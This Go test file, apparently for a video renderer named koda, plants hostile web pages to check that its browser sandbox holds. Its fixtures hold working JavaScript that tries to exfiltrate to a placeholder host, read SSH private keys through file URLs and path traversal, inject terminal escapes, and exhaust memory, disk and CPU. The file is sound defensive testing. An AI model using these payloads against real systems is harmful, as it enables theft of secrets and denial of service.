package main

import (
	"fmt"
	"os"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/koda-video/koda/internal/needs"
)

// page is a page that somebody wrote to do harm. The code in at runs when the page
// is asked to show a second; all other code runs as the page loads.
type page struct {
	name  string
	short bool
	load  string
	at    string
	html  string
	takes int64 // for a page that fills memory: the most megabytes that it may hold
}

// plant replaces the content of the clone by the page.
func (p page) plant(v *victim) {
	html := `<!doctype html><meta charset="utf-8"><title>page</title>` + p.html + `<canvas id="canvas" width="160" height="90"></canvas><script>
		const all = [], real = () => new Promise((done) => { const c = new MessageChannel(); c.port1.onmessage = done; c.port2.postMessage(0) })
		const many = async (n) => { while (n--) await real() }
		window.__exportSeekTo = async (t) => { canvas.getContext("2d")?.fillRect(t * 100, 0, 9, 9); ` + p.at + ` }
		window.__exportReady = true;
		try { ` + p.load + ` } catch (e) { console.error(e) }</script>`
	html = strings.ReplaceAll(html, "{evil}", `\x1b[31mevil\x1b]0;owned\x07\x1b[2J\u009b31m\u202e\r`)
	v.must(os.RemoveAll(v.clone))
	v.must(put("index.html", html)(v))
	v.must(put("koda.json", `{"schema": 1, "name": "page", "width": 160, "height": 90, "fps": 10, "duration": 0.3}`)(v))
	v.must(put("public/worker.js", `for (const u of ["http://{host}/w", "ws://{host}/w"]) { try { importScripts(u) } catch {} try { new WebSocket(u) } catch {} try { fetch(u) } catch {} }`)(v))
	v.must(put("public/service.js", `self.onfetch = (e) => e.respondWith(fetch("http://{host}/s"))`)(v))
}

// pageCommands are the commands that a person runs on a page.
var pageCommands = []string{"still . --at 0.1", "render . -o out.mp4"}

func hostilePages(t *testing.T, used string) {
	var pages, tried atomic.Int64
	t.Run("pages", func(t *testing.T) {
		for _, p := range needs.SomeThat(hostilePage, os.Getenv(inFull) == "all", func(p page) bool { return p.short }) {
			t.Run(p.name, func(t *testing.T) {
				t.Parallel()
				pages.Add(1)
				for _, command := range pageCommands {
					v := newVictim(t, used)
					p.plant(v)
					v.limits.memory += p.takes << 20
					v.env = []string{"KODA_BROWSER_MEMORY=1GB"}
					e := v.suffers(command)
					tried.Add(1)
					for _, harm := range e.harms {
						t.Errorf("koda %s: %s", command, harm)
					}
					t.Logf("koda %s: status %d: %.400s", command, e.status, strings.ReplaceAll(e.err, "\n", " | "))
				}
			})
		}
	})
	if !t.Failed() {
		t.Logf("%d pages were drawn or given up by %d commands: none did harm", pages.Load(), tried.Load())
	}
}

// network tries every way out of a page. None may reach a host.
const network = `
	const U = "http://{host}/x", add = (tag, as) => document.body.append(Object.assign(document.createElement(tag), as)), go = (f) => { try { Promise.resolve(f()).catch(() => {}) } catch {} }
	go(() => fetch(U)); go(() => fetch(U, {mode: "no-cors", method: "POST", body: "x", keepalive: true})); go(() => fetchLater(U))
	go(() => { const x = new XMLHttpRequest(); x.open("GET", U, false); x.send() })
	go(() => new WebSocket("ws://{host}/x")); go(() => new EventSource(U)); go(() => navigator.sendBeacon(U, "x")); go(() => new WebTransport("https://{host}/x"))
	go(() => import(U)); go(() => new Worker(U)); go(() => new SharedWorker(U)); go(() => new Worker("worker.js")); go(() => new SharedWorker("worker.js"))
	go(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + U + "'); importScripts('" + U + "')"]))))
	go(() => navigator.serviceWorker.register("service.js").then(() => fetch("/anything")))
	for (const tag of ["img", "script", "iframe", "embed", "audio", "video", "input", "source", "track", "frame"]) go(() => add(tag, {src: U, type: tag === "input" ? "image" : ""}))
	for (const rel of ["prefetch", "preconnect", "dns-prefetch", "preload", "modulepreload", "stylesheet", "manifest", "icon", "prerender", "pingback"]) go(() => add("link", {rel, href: U, as: "fetch"}))
	go(() => add("object", {data: U})); go(() => add("style", {textContent: "@import '" + U + "'; @font-face { font-family: x; src: url(" + U + ") } body { font-family: x; background: url(" + U + "); cursor: url(" + U + "), auto }"}))
	go(() => { document.body.insertAdjacentHTML("beforeend", '<svg><image href="' + U + '"/><use href="' + U + '#x"/><filter><feImage href="' + U + '"/></filter></svg>' +
		'<iframe srcdoc="<img src=' + U + '><script>fetch(\'' + U + '\')</scr' + 'ipt>"></iframe><iframe src="data:text/html,<img src=' + U + '>"></iframe>' +
		'<iframe sandbox="allow-scripts" srcdoc="<script>new WebSocket(\'ws://{host}\')</scr' + 'ipt>"></iframe><portal src="' + U + '"></portal><fencedframe src="' + U + '"></fencedframe>') })
	go(() => { add("script", {type: "speculationrules", textContent: JSON.stringify({prerender: [{urls: [U]}], prefetch: [{urls: [U]}]})}) })
	go(async () => { const p = new RTCPeerConnection({iceServers: [{urls: ["stun:{host}", "turn:{host}?transport=tcp"], username: "x", credential: "x"}]}); p.createDataChannel("x")
		await p.setLocalDescription(await p.createOffer()) })
	go(() => new Image().src = "file://{home}/.ssh/id_ed25519"); go(() => add("a", {href: U, ping: U}).click())
	go(() => navigator.registerProtocolHandler("web+x", location.origin + "/%s")); go(() => new PresentationRequest(U).start()); go(() => new PaymentRequest([{supportedMethods: U}], {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).show())
	go(() => CSS.paintWorklet.addModule(U)); go(() => new AudioContext().audioWorklet.addModule(U)); go(() => navigator.credentials.get({federated: {providers: [U]}, identity: {providers: [{configURL: U}]}}))
`

// reads tries every way to the person's files.
const reads = `
	const F = "file://{home}/.ssh/id_ed25519", tell = (x) => { console.log(x); throw new Error(x) }
	const tries = [() => fetch(F).then((r) => r.text()).then(tell), () => fetch("/../../../../../..{home}/.ssh/id_ed25519").then((r) => r.text()).then(tell),
		() => fetch("/%2e%2e/%2e%2e/%2e%2e/.ssh/id_ed25519").then((r) => r.text()).then(tell), () => fetch("/..%2f..%2f.bashrc").then((r) => r.text()).then(tell), () => import("file://{home}/secret.ts"),
		() => new Worker(F), () => { const x = new XMLHttpRequest(); x.open("GET", F, false); x.send(); tell(x.responseText) }, () => document.body.append(Object.assign(document.createElement("iframe"), {src: F})),
		() => window.open(F), () => showOpenFilePicker(), () => showDirectoryPicker(), () => navigator.clipboard.readText().then(tell), () => fetch("view-source:" + F), () => fetch("chrome://version"),
		() => window.open("chrome://settings"), () => fetch("http://127.0.0.1:9222/json"), () => fetch("filesystem:" + F), () => navigator.getBattery().then((b) => tell(b.level)), () => navigator.mediaDevices.getUserMedia({video: true, audio: true}),
		() => navigator.mediaDevices.getDisplayMedia(), () => queryLocalFonts().then((f) => tell(f.length)), () => navigator.usb.requestDevice({filters: []}), () => navigator.geolocation.getCurrentPosition(tell)]
	for (const f of tries) { try { await f() } catch (e) { console.error(e) } }
`

// hostilePage lists pages that do harm if they can.
var hostilePage = []page{
	{name: "every way out as it loads", short: true, load: network, at: "await many(2000)"},
	{name: "every way out at a second", at: network + "; await many(2000)"},
	{name: "every way to a file", short: true, at: reads},
	{name: "form", at: `document.body.insertAdjacentHTML("beforeend", "<form method=post action=http://{host}/f><input name=x value=y></form>"); document.forms[0].submit(); await many(500)`},
	{name: "goes elsewhere", at: `location = "http://{host}/x"; await many(500)`},
	{name: "goes elsewhere as it loads", html: `<meta http-equiv="refresh" content="0;url=http://{host}/x">`, load: `location.href = "http://{host}/x"`},
	{name: "goes to a file", at: `location = "file://{home}/.ssh/id_ed25519"; await many(500)`},
	{name: "goes to data", at: `location = "data:text/html,<script>document.title='x'</script>"; await many(500)`},
	{name: "goes round", load: `setInterval(() => location.reload(), 0)`, at: `location.reload(); await many(500)`},
	{name: "goes round by hash", at: `for (let i = 0; i < 1e5; i++) location.hash = i; for (let i = 0; i < 1e4; i++) history.pushState({}, "", "/x" + i)`},
	{name: "is unloaded", load: `onbeforeunload = onunload = onpagehide = (e) => { e.preventDefault(); e.returnValue = "x"; navigator.sendBeacon("http://{host}/u", "x"); for (;;); }`},
	{name: "windows", short: true, at: `for (let i = 0; i < 50; i++) { const w = window.open("about:blank"); w?.document.write("<script>fetch('http://{host}/x'); for (;;);</scr" + "ipt>") } window.open("http://{host}/x"); await many(500)`, takes: 500},
	{name: "windows of windows", at: `const w = () => window.open(URL.createObjectURL(new Blob(["<script>for(;;) open(location)</scr" + "ipt>"], {type: "text/html"}))); for (let i = 0; i < 20; i++) w(); await many(500)`, takes: 500},
	{name: "downloads", at: `for (let i = 0; i < 20; i++) { const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["x".repeat(1e6)])); a.download = "../../x" + i + ".sh"; document.body.append(a); a.click() } await many(500)`},
	{name: "a download of a header", at: `const a = document.createElement("a"); a.href = "data:application/octet-stream,x"; a.download = ".bashrc"; a.click(); const i = document.createElement("iframe"); i.src = "data:application/x-sh,x"; document.body.append(i); await many(500)`},
	{name: "dialogs", short: true, load: `alert(1); confirm(2); prompt(3); print()`, at: `alert("x".repeat(1e6)); confirm("\x1b[2J"); print(); await document.documentElement.requestFullscreen().catch(() => {})`},
	{name: "dialogs without end", at: `for (;;) alert(1)`},
	{name: "prints", at: `for (let i = 0; i < 100; i++) print(); await many(100)`},
	{name: "a flood of lines", at: `for (let i = 0; i < 200000; i++) console.log("{evil}" + i); for (let i = 0; i < 100; i++) console.error("x".repeat(1e6))`, takes: 1000},
	{name: "a flood without end", at: `for (;;) console.log("x".repeat(1000))`, takes: 1500},
	{name: "lines of objects", at: `const o = {}; let p = o; for (let i = 0; i < 1e5; i++) p = p.a = {}; for (let i = 0; i < 100; i++) console.log(o, window, document); console.table(Array(1e5).fill(o))`, takes: 1000},
	{name: "a huge error", short: true, at: `const e = new Error("{evil}".repeat(1e5)); e.stack = "{evil}".repeat(1e5); e.name = "{evil}"; throw e`},
	{name: "an error of a huge line", load: `Promise.reject(new Error("{evil}\n".repeat(1e4))); setTimeout(() => { throw "{evil}".repeat(1e6) })`, at: `throw {toString() { return "{evil}".repeat(1e6) }, get message() { throw 1 }}`},
	{name: "errors without end", at: `for (let i = 0; i < 50000; i++) Promise.reject(new Error("{evil}" + i)); await many(10)`},
	{name: "a huge exception", at: `throw "x".repeat(5e8)`, takes: 2500},
	{name: "a thrown page", at: `throw window`}, {name: "a thrown nothing", at: `throw undefined`}, {name: "a thrown trap", at: `throw new Proxy({}, {get() { for (;;); }})`},

	{name: "no clock", load: `delete window.__koda; window.__koda = null; for (const k of Object.keys(window)) if (k.startsWith("__koda")) { try { delete window[k]; window[k] = () => { throw 1 } } catch {} }`},
	{name: "a clock of its own", load: `Date = class { constructor() { return {} } static now() { throw 1 } }; performance.now = () => NaN; requestAnimationFrame = setTimeout = setInterval = () => { throw 1 }; Math.random = () => { for (;;); }`},
	{name: "other promises", load: `window.Promise = class { then() { for (;;); } }; Object.prototype.then = function () {}`},
	{name: "other objects", load: `Object.prototype.toJSON = () => { throw 1 }; JSON.stringify = JSON.parse = () => { throw 2 }; Array.prototype.map = Array.prototype.push = Function.prototype.call = Function.prototype.apply = () => { throw 3 }; Object.defineProperty(Object.prototype, "value", {get() { throw 4 }})`},
	{name: "symbols", load: `Array.prototype[Symbol.iterator] = () => { throw 1 }; Object.defineProperty(Object.prototype, "type", {get() { return "x" }, set() {}}); RegExp.prototype.exec = () => { for (;;); }; String.prototype.replace = () => { throw 1 }`},
	{name: "a getter that throws", load: `Object.defineProperty(window, "__exportSeekTo", {get() { throw new Error("{evil}") }})`},
	{name: "a getter that spins", load: `Object.defineProperty(window, "__exportSeekTo", {get() { for (;;); }})`},
	{name: "a getter of ready", load: `Object.defineProperty(window, "__exportReady", {get() { throw new Error("x") }})`},
	{name: "a readiness that spins", load: `Object.defineProperty(window, "__exportReady", {get() { for (;;); }})`},
	{name: "never ready", load: `window.__exportReady = false`}, {name: "ready and not", load: `setInterval(() => window.__exportReady = !window.__exportReady, 1)`},
	{name: "no seek", load: `window.__exportSeekTo = 7`}, {name: "never settles", short: true, at: `return new Promise(() => {})`},
	{name: "a thenable", at: `return {then(f) { f({then(f) { for (;;); }}) }}`}, {name: "a huge answer", at: `return "x".repeat(5e8)`, takes: 2500},
	{name: "a huge key", load: `window.__kodaFrameKey = () => "{evil}".repeat(1e6)`}, {name: "keys that throw", load: `window.__kodaFrameKey = () => { throw new Error("{evil}") }; window.__kodaFirstKey = () => { for (;;); }`},
	{name: "huge properties", load: `window.__kodaProps = window.__kodaProps || {}; Object.freeze(window); Object.freeze(document)`},
	{name: "zooms", at: `document.body.style.zoom = 1e9; document.documentElement.style.transform = "scale(1e9)"; resizeTo(1e6, 1e6); moveTo(1e6, 1e6); window.innerWidth = 7; visualViewport.scale = 9; document.querySelector("meta[name=viewport]")?.remove()`},
	{name: "a huge page", at: `document.body.style.cssText = "width: 1e9px; height: 1e9px; background: red; filter: blur(1e5px)"; scrollTo(1e9, 1e9)`, takes: 1500},
	{name: "no document", at: `document.open(); document.close(); document.documentElement?.remove()`}, {name: "writes without end", at: `for (;;) document.write("<p>x")`, takes: 1500},
	{name: "closes", at: `window.close(); self.close(); top.close()`},

	{name: "spins", at: `for (;;);`}, {name: "spins as it loads", load: `for (;;);`}, {name: "microtasks", at: `const f = () => Promise.resolve().then(f); return f()`},
	{name: "messages", at: `for (;;) await real()`}, {name: "frames", load: `const f = () => { requestAnimationFrame(f); requestAnimationFrame(f) }; f()`, at: `for (;;) await new Promise(requestAnimationFrame)`, takes: 1500},
	{name: "timers", load: `const f = () => { setTimeout(f, 0); setTimeout(f, 0) }; f(); setInterval(f, 0)`, takes: 1500},
	{name: "workers that spin", short: true, at: `for (let i = 0; i < 40; i++) all.push(new Worker(URL.createObjectURL(new Blob(["for (;;);"])))); await many(100)`, takes: 1500},
	{name: "workers of workers", at: `const u = URL.createObjectURL(new Blob(["for (;;) new Worker(location.href)"])); new Worker(u); return new Promise(() => {})`, takes: 1500},
	{name: "shared workers", at: `for (let i = 0; i < 40; i++) new SharedWorker(URL.createObjectURL(new Blob(["for (;;);"])), "n" + i); await many(100)`, takes: 1500},
	{name: "a regular expression", at: `/^(a+)+$/.test("a".repeat(50) + "b")`}, {name: "a style", at: `document.body.innerHTML = "<div>".repeat(1e5); const s = document.createElement("style"); s.textContent = ":has(div:has(div)) * * * * { color: red }".repeat(1000); document.head.append(s)`, takes: 1500},
	{name: "a filter", at: `let n = ""; for (let i = 0; i < 400; i++) n += '<feTurbulence baseFrequency="0.5" numOctaves="255"/>'; document.body.innerHTML = '<svg width="9999" height="9999"><filter id="f">' + n + '<feGaussianBlur stdDeviation="9999"/><feMorphology radius="9999" operator="dilate"/></filter><rect width="9999" height="9999" filter="url(#f)"/></svg>'`, takes: 1500},
	{name: "laughs", at: `let d = '<svg><defs><g id="a0"><path d="M0 0h9"/></g>'; for (let i = 1; i < 12; i++) d += '<g id="a' + i + '">' + ('<use href="#a' + (i - 1) + '"/>').repeat(10) + '</g>'; document.body.innerHTML = d + '</defs><use href="#a11"/></svg>'`, takes: 1500},
	{name: "a shader", at: `const g = document.createElement("canvas").getContext("webgl"), s = g.createShader(g.FRAGMENT_SHADER); document.body.append(g.canvas); g.shaderSource(s, "precision highp float; void main() { float x = 0.; for (int i = 0; i < 2000000000; i++) x += sin(float(i)); gl_FragColor = vec4(x); }"); g.compileShader(s)
		const v = g.createShader(g.VERTEX_SHADER); g.shaderSource(v, "void main() { gl_Position = vec4(0.); gl_PointSize = 99.; }"); g.compileShader(v); const p = g.createProgram(); g.attachShader(p, s); g.attachShader(p, v); g.linkProgram(p); g.useProgram(p); for (let i = 0; i < 1000; i++) g.drawArrays(g.POINTS, 0, 1); g.finish()`, takes: 1500},

	{name: "fills with arrays", short: true, at: `for (;;) all.push(new Array(1e5).fill(Math.random()))`, takes: 1500}, {name: "fills with buffers", at: `for (;;) all.push(new Uint8Array(1e7).fill(1))`, takes: 1500},
	{name: "fills at once", at: `all.push(new Uint8Array(2 ** 32).fill(1), new SharedArrayBuffer(2 ** 31), new WebAssembly.Memory({initial: 65536}))`, takes: 1500},
	{name: "fills by code", at: `const m = new WebAssembly.Memory({initial: 1, maximum: 65536}); for (;;) { m.grow(100); new Uint8Array(m.buffer).fill(1) }`, takes: 1500},
	{name: "fills with elements", at: `for (;;) { const d = document.createElement("div"); d.textContent = "x".repeat(1e5) + Math.random(); document.body.append(d) }`, takes: 1500},
	{name: "fills with canvases", at: `for (;;) { const c = document.createElement("canvas"); c.width = c.height = 8000; c.getContext("2d").fillRect(0, 0, 9, 9); all.push(c, c.getContext("2d").getImageData(0, 0, 8000, 8000)) }`, takes: 1500},
	{name: "fills with textures", at: `const g = document.createElement("canvas").getContext("webgl"); for (;;) { const x = g.createTexture(); g.bindTexture(g.TEXTURE_2D, x); g.texImage2D(g.TEXTURE_2D, 0, g.RGBA, 4096, 4096, 0, g.RGBA, g.UNSIGNED_BYTE, new Uint8Array(2 ** 26).fill(7)); g.finish(); all.push(x) }`, takes: 2000},
	{name: "fills with blobs", at: `for (;;) { all.push(new Blob([new Uint8Array(1e7).fill(1)])); await real() }`, takes: 1500}, {name: "fills with pictures", at: `for (let i = 0; ; i++) { const c = new OffscreenCanvas(4000, 4000); c.getContext("2d").fillRect(0, 0, 9, 9); all.push(await createImageBitmap(c)) }`, takes: 1500},
	{name: "fills with sounds", at: `for (;;) all.push(new AudioBuffer({length: 1e7, sampleRate: 48000}).getChannelData(0).fill(1))`, takes: 1500},
	{name: "fills workers", at: `for (let i = 0; i < 20; i++) new Worker(URL.createObjectURL(new Blob(["const a = []; for (;;) a.push(new Uint8Array(1e7).fill(1))"]))); return new Promise(() => {})`, takes: 1500},
	{name: "fills the disk by files", at: `const d = await navigator.storage.getDirectory(), data = new Uint8Array(1e7).fill(1); for (let i = 0; i < 200; i++) { const w = await (await d.getFileHandle("f" + i, {create: true})).createWritable(); await w.write(data); await w.close() }`, takes: 1500},
	{name: "fills the disk by a database", at: `const r = indexedDB.open("x"); await new Promise((d) => { r.onupgradeneeded = () => r.result.createObjectStore("s"); r.onsuccess = d }); for (let i = 0; i < 200; i++) { const t = r.result.transaction("s", "readwrite"); t.objectStore("s").put(new Uint8Array(1e7).fill(i), i); await new Promise((d) => t.oncomplete = d) }`, takes: 1500},
	{name: "fills the disk by a cache", at: `const c = await caches.open("x"); for (let i = 0; i < 200; i++) await c.put("/" + i, new Response(new Uint8Array(1e7).fill(i)))`, takes: 1500},
	{name: "fills the disk by words", at: `for (let i = 0; i < 1e5; i++) { localStorage["k" + i] = "x".repeat(1e6); document.cookie = "k" + i + "=" + "x".repeat(4000) }`},

	{name: "a hundred thousand requests", at: `for (let i = 0; i < 1e5; i++) fetch("/none" + i).catch(() => {}); await many(100)`, takes: 1500},
	{name: "a hundred thousand refusals", at: `for (let i = 0; i < 1e5; i++) new Image().src = "http://{host}/" + i + "{evil}".repeat(10); await many(100)`, takes: 1500},
	{name: "requests without end", load: `const f = () => { fetch("/x" + Math.random()).finally(f); fetch("data:,x").finally(f) }; f()`, takes: 1500},
	{name: "a request of a huge name", at: `fetch("/" + "{evil}".repeat(1e6)).catch(() => {}); fetch("/x", {method: "POST", body: new Uint8Array(5e8)}).catch(() => {}); await many(100)`, takes: 2000},
	{name: "ten thousand frames", at: `for (let i = 0; i < 1e4; i++) document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: "<script>for(let i=0;i<1e6;i++);</scr" + "ipt>"})); await many(100)`, takes: 2000},
	{name: "frames in frames", load: `for (let i = 0; i < 5; i++) document.body?.append(Object.assign(document.createElement("iframe"), {src: "/index.html?" + Math.random()}))`, takes: 2000},
	{name: "a service worker", load: `navigator.serviceWorker.register("/service.js").then(() => fetch("/x"))`, at: `await many(1000)`},
	{name: "debugs", load: `debugger; setInterval(() => { debugger }, 1)`, at: `debugger; for (let i = 0; i < 1000; i++) eval("debugger")`},
	{name: "a profile", at: `console.profile("x"); console.time("x"); for (let i = 0; i < 1e5; i++) performance.mark("m" + i); console.profileEnd(); performance.measure("x")`},
	{name: "sounds", load: `const c = new AudioContext(); const o = c.createOscillator(); o.connect(c.destination); o.start(); new Audio("data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEA").play(); speechSynthesis.speak(new SpeechSynthesisUtterance("x"))`},
	{name: "gets up", load: `navigator.wakeLock?.request("screen"); Notification.requestPermission(); new Notification("x"); navigator.vibrate?.(1e9); document.title = "{evil}"; navigator.setAppBadge?.(1e9)`},
	{name: "no text", html: strings.Repeat("\x00\xff", 1000)}, {name: "a deep document", html: strings.Repeat("<div>", 1<<20), takes: 1000},
	{name: "a huge attribute", html: `<p title="` + strings.Repeat("x", 20<<20) + `">`, takes: 1000}, {name: "a policy", html: `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; report-uri http://{host}/r">`},
	{name: "another base", html: `<base href="http://{host}/"><img src="x.png" onerror="document.body.append(Object.assign(new Image, {src: 'y.png'}))">`}, {name: "another charset", html: `<meta charset="utf-7"><?xml-stylesheet href="http://{host}/x"?>`},
	{name: "a bitmap of a gigapixel", html: fmt.Sprintf(`<img src="data:image/svg+xml,%s">`, `<svg xmlns='http://www.w3.org/2000/svg' width='60000' height='60000'><rect width='60000' height='60000' fill='red'/></svg>`), at: `await document.images[0].decode()`, takes: 2000},
}
